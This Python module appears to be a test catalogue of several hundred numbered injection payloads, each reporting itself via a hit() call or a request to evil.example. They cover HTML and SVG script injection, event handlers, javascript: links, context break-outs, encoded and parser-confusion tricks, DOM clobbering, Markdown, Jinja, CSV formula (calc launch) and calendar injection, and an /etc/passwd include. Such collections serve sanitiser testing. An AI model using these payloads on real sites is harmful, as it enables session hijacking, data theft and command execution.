"""Texts that would run something, ask another host, or take the page over, if they were let.

Each has a number, which it reports by calling `hit(number)` or by asking `evil.example/number`.
`context` says where it would work if it were put there raw: `control.py` puts it there, so that
one can see which of them a browser of today really runs.
"""

from collections import Counter
from dataclasses import dataclass

HOST = "evil.example"


@dataclass(frozen=True)
class Vector:
    number: int
    kind: str
    context: str
    text: str


def _all() -> tuple[Vector, ...]:
    found = []
    for kind, context, texts in _LISTED:
        for text in texts:
            number = len(found) + 1
            found.append(Vector(number, kind, context, text.replace("¤", str(number))))
    return tuple(found)


IMG = "<img src=x onerror=hit(¤)>"
_LISTED: list[tuple[str, str, list[str]]] = [
    ("script", "html", [
        "<script>hit(¤)</script>",
        "<ScRiPt>hit(¤)</sCrIpT>",
        "<script/x>hit(¤)</script >",
        "<script src=//evil.example/¤.js></script>",
        '<script src="data:text/javascript,hit(¤)"></script>',
        "<script type=module>hit(¤)</script>",
        "<svg><script>hit(¤)</script></svg>",
        "<svg><script>hit&#40;¤&#41;</script></svg>",
        '<script>window["al" + "ert"](¤)</script>',
        "<scr<script>ipt>hit(¤)</scr</script>ipt>",
        "<link rel=modulepreload href=//evil.example/¤.js>",
    ]),
    ("handler", "html", [
        IMG,
        "<IMG SRC=x ONERROR=hit(¤)>",
        "<img/src='x'/onerror='hit(¤)'>",
        '<img src=x onerror="&#104;it(¤)">',
        "<img src=x onerror=\\u0068it(¤)>",
        '<img """><script>hit(¤)</script>">',
        "<svg onload=hit(¤)>",
        "<svg/onload=hit(¤)//",
        "<body onload=hit(¤)>",
        "<details open ontoggle=hit(¤)>x</details>",
        "<input autofocus onfocus=hit(¤)>",
        "<textarea autofocus onfocus=hit(¤)></textarea>",
        "<video><source onerror=hit(¤)></video>",
        "<audio src=x onerror=hit(¤)>",
        "<object data=x onerror=hit(¤)></object>",
        "<iframe onload=hit(¤)></iframe>",
        "<b onmouseover=hit(¤)>hover</b>",
        "<p onclick=hit(¤)>press</p>",
        "<a href=# onclick=hit(¤)>press</a>",
        "<x-y onpointerenter=hit(¤)>point</x-y>",
        "<p contenteditable onblur=hit(¤)>edit</p>",
        "<input type=image src=x onerror=hit(¤)>",
        "<link rel=stylesheet href=//evil.example/¤ onerror=hit(¤)>",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=hit(¤)>a</b>",
        "<svg><animate onbegin=hit(¤) attributeName=x dur=1s>",
        "<svg><image href=x onerror=hit(¤)></svg>",
        "<svg><foreignObject><iframe onload=hit(¤)></iframe></foreignObject></svg>",
        "<math><mtext onmouseover=hit(¤)>m</mtext></math>",
        "<template shadowrootmode=open><img src=x onerror=hit(¤)></template>",
        "<button popovertarget=p>b</button><p popover id=p onbeforetoggle=hit(¤)>p</p>",
    ]),
    ("address", "html", [
        "<a href=javascript:hit(¤)>x</a>",
        '<a href=" &#1;JaVaScRiPt:hit(¤)">x</a>',
        '<a href="java&Tab;script:hit(¤)">x</a>',
        '<a href="javascript&colon;hit(¤)">x</a>',
        "<iframe src=javascript:parent.hit(¤)></iframe>",
        '<iframe srcdoc="<script>parent.hit(¤)</script>"></iframe>',
        "<form action=javascript:hit(¤)><button>go</button></form>",
        "<form><button formaction=javascript:hit(¤)>go</button></form>",
        "<svg><a href=javascript:hit(¤)><text y=20>x</text></a></svg>",
        "<svg><a><animate attributeName=href values=javascript:hit(¤) />"
        "<text y=20>x</text></a></svg>",
        "<map name=m><area href=javascript:hit(¤)></map>",
        "<a href=vbscript:msgbox(¤)>x</a>",
        "<a href=data:text/html,<script>hit(¤)</script>>x</a>",
        "<object data=javascript:hit(¤)></object>",
        "<embed src=javascript:hit(¤)>",
        "<math href=javascript:hit(¤)>m</math>",
    ]),
    ("href", "href", [
        "javascript:hit(¤)",
        "JAVASCRIPT:hit(¤)",
        "java\tscript:hit(¤)",
        "javascript&colon;hit(¤)",
        "javascript://evil.example/%0ahit(¤)",
    ]),
    ("request", "html", [
        "<img src=//evil.example/¤.png>",
        "<img srcset='//evil.example/¤.png 1x'>",
        "<iframe src=//evil.example/¤></iframe>",
        "<object data=//evil.example/¤></object>",
        "<embed src=//evil.example/¤>",
        "<video src=//evil.example/¤ autoplay></video>",
        "<video poster=//evil.example/¤></video>",
        "<svg><image href=//evil.example/¤ /></svg>",
        "<svg><use href=//evil.example/¤#x /></svg>",
        "<table background=//evil.example/¤><td>x</table>",
        "<form action=//evil.example/¤><button>go</button></form>",
        "<base href=//evil.example/¤/><img src=base.png>",
        '<meta http-equiv=refresh content="0;url=//evil.example/¤">',
        "<link rel=stylesheet href=//evil.example/¤.css>",
        "<link rel=preload as=image href=//evil.example/¤>",
        "<style>@import '//evil.example/¤.css';</style>",
        "<b style=background:url(//evil.example/¤)>x</b>",
        "<style>*{background:url(//evil.example/¤)}</style>",
        "<a ping=//evil.example/¤ href=#>x</a>",
    ]),
    ("break-out", "attribute", [
        '" onmouseover="hit(¤)" x="',
        '" autofocus onfocus="hit(¤)',
        f'">{IMG}',
        '" style="animation-name:k" onanimationstart="hit(¤)" onclick="hit(¤)',
        f'"/>{IMG}<x y="',
    ]),
    ("break-out", "single", [
        "' onmouseover='hit(¤)' x='",
        f"'>{IMG}",
    ]),
    ("break-out", "unquoted", ["x onmouseover=hit(¤) y", f"x>{IMG}", "` onclick=hit(¤) `"]),
    ("break-out", "title", [f"</title>{IMG}", "</title><script>hit(¤)</script><title>"]),
    ("break-out", "textarea", [f"</textarea>{IMG}"]),
    ("break-out", "style", [f"</style>{IMG}", "}</style><script>hit(¤)</script>{"]),
    ("break-out", "comment", [f"-->{IMG}", f"--!>{IMG}<!--"]),
    ("script text", "script", [
        '";hit(¤);//',
        f"</script>{IMG}",
        '"}</script><script>hit(¤)</script>',
        '\\";hit(¤);//',
    ]),
    ("script text", "script single", ["';hit(¤);//", "'-hit(¤)-'"]),
    ("script text", "script template", ["${hit(¤)}"]),
    ("script text", "script comment", ["\u2028hit(¤);//", "\u2029hit(¤);//"]),
    ("decoded", "decoded", [
        "&lt;img src=x onerror=hit(¤)&gt;",
        "&#60;img src=x onerror=hit(¤)&#62;",
        "&#x3c;svg onload=hit(¤)&#x3e;",
        "&lt;script&gt;hit(¤)&lt;/script&gt;&lt;img src=x onerror=hit(¤)&gt;",
    ]),
    ("decoded", "decoded twice", ["&amp;lt;img src=x onerror=hit(¤)&amp;gt;"]),
    ("decoded", "percent", [
        "%3Cimg%20src=x%20onerror=hit(¤)%3E",
        "%253Cimg src=x onerror=hit(¤)%253E",
    ]),
    ("decoded", "backslashes", [
        "\\u003cimg src=x onerror=hit(¤)\\u003e",
        "\\x3cimg src=x onerror=hit(¤)\\x3e",
    ]),
    ("odd letters", "html", [
        "＜script＞hit(¤)＜/script＞",
        "+ADw-script+AD4-hit(¤)+ADw-/script+AD4-",
        "<\u200bscript>hit(¤)</script>",
        "\u202e<img src=x onerror=hit(¤)>\u202c",
        "<ſcript>hit(¤)</ſcript>",
        "\ue000content\ue001<img src=x onerror=hit(¤)>",
    ]),
    ("parsed twice", "reparsed", [
        '<noscript><p title="</noscript><img src=x onerror=hit(¤)>">',
        '<svg></p><style><a id="</style><img src=x onerror=hit(¤)>">',
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=x onerror=hit(¤)&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(¤)>",
        '<math><annotation-xml encoding="text/html"><style><img title="</style>'
        '<img src=x onerror=hit(¤)>">',
        '<xmp><p title="</xmp><img src=x onerror=hit(¤)>">',
        '<iframe><p title="</iframe><img src=x onerror=hit(¤)>">',
        '<select><template><style><!--</style><a rel="--></style></template></select>'
        '<img src=x onerror=hit(¤)>">',
        '<a title="&lt;/title&gt;" id="x`"><img src=x onerror=hit(¤)>',
    ]),
    ("clobbering", "clobber", [
        '<p id=__config>{"base":"//evil.example/¤"}</p>',
        "<a id=__md_get href=//evil.example/¤></a>",
        "<a id=__md_scope href=//evil.example/¤></a>",
        "<form id=__search name=getElementById></form>",
        "<img name=currentScript><img name=querySelector>",
    ]),
    ("Markdown", "markdown", [
        "[x](javascript:hit(¤))",
        "[x](JaVaScRiPt:hit(¤))",
        "[x](java&#9;script:hit(¤))",
        "[x](&#106;avascript:hit(¤))",
        "[x](<javascript:hit(¤)>)",
        "[x][r¤]\n\n[r¤]: javascript:hit(¤)",
        "[![x](x)](javascript:hit(¤))",
        "<javascript:hit(¤)>",
        "![x](//evil.example/¤.png)",
        "![x](https://evil.example/¤.png)",
        '[x](y){: onclick="hit(¤)" }',
        '# H {: #__config onmouseover="hit(¤)" }',
        "![x](x){: onerror=hit(¤) }",
        '*[abbr]: "><img src=x onerror=hit(¤)>\n\nabbr',
        f"!!! note \"{IMG}\"\n    Text.",
        f"Text.[^¤]\n\n[^¤]: {IMG}",
        f"| a |\n|---|\n| {IMG} |",
        f"> - # {IMG}",
        '[x](https://evil.example/¤ "\\" onmouseover=\\"hit(¤)")',
        '[x](y "<img src=x onerror=hit(¤)>")',
        '[x](https://evil.example/ "<img src=x onerror=hit(¤)>")',
        '![<img src=x onerror=hit(¤)>](y "<img src=x onerror=hit(¤)>")',
        '```html onload="hit(¤)"\n<script>hit(¤)</script>\n```',
        "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
        "<!-- --><img src=x onerror=hit(¤)>",
        '--8<-- "/etc/passwd"\n\n[TOC]\n\n:material-account: :smile:',
    ]),
    ("template", "jinja", [
        "{{ 7 * 191 }}",
        "{{ ''.__class__.__mro__ }}",
        "{% for x in 'ab' %}{{ x }}-{% endfor %}",
        "{# hidden #}",
        "{% raw %}{{ x }}{% endraw %}",
        "{{ constructor.constructor('hit(¤)')() }}",
    ]),
    ("cell", "csv", [
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://evil.example/¤","x")',
        "+1+hit(¤)",
        "-2+3+hit(¤)",
        "@SUM(1+1)*hit(¤)",
        "＝1+hit(¤)",
        ";=1+hit(¤)",
        '"=1+hit(¤)',
    ]),
    ("calendar", "ics", [
        "x\r\nATTACH:http://evil.example/¤\r\nX-A:b",
        "x\\nATTACH:http://evil.example/¤",
        'x;ALTREP="http://evil.example/¤":y',
        "x\u2028ATTACH:http://evil.example/¤",
        "x\u0085ATTACH:http://evil.example/¤",
    ]),
]  # fmt: skip

VECTORS = _all()
BY_NUMBER = {vector.number: vector for vector in VECTORS}
KINDS = Counter(vector.kind for vector in VECTORS)
BETWEEN = " § "


def groups(of: int) -> list[tuple[Vector, ...]]:
    """All of them, so many at a time; each group has some of several kinds."""
    many = -(-len(VECTORS) // of)
    return [VECTORS[start::many] for start in range(many)]


_AS_NAME = {
    "<": "&lt;", ">": "&gt;", '"': "&quot;", ":": "&colon;", "/": "&sol;", "\\": "&bsol;",
    "|": "&vert;", "?": "&quest;", "*": "&ast;", "\n": " ", "\t": " ", "\r": " ",
}  # fmt: skip
_NO_NAME = "\u2028\u2029\u0085\u200b\u202e\u202c\ue000\ue001"


def as_name(text: str, most: int = 110) -> str:
    """A vector as part of a file name: what cannot stand in one is an entity, so that it would
    come back to life where somebody decodes once too often."""
    plain = "".join(_AS_NAME.get(c, c) for c in text if c not in _NO_NAME)
    plain = " ".join(plain.encode()[:most].decode("utf-8", "ignore").split())
    return plain.rstrip(" .").lstrip(".") or "x"
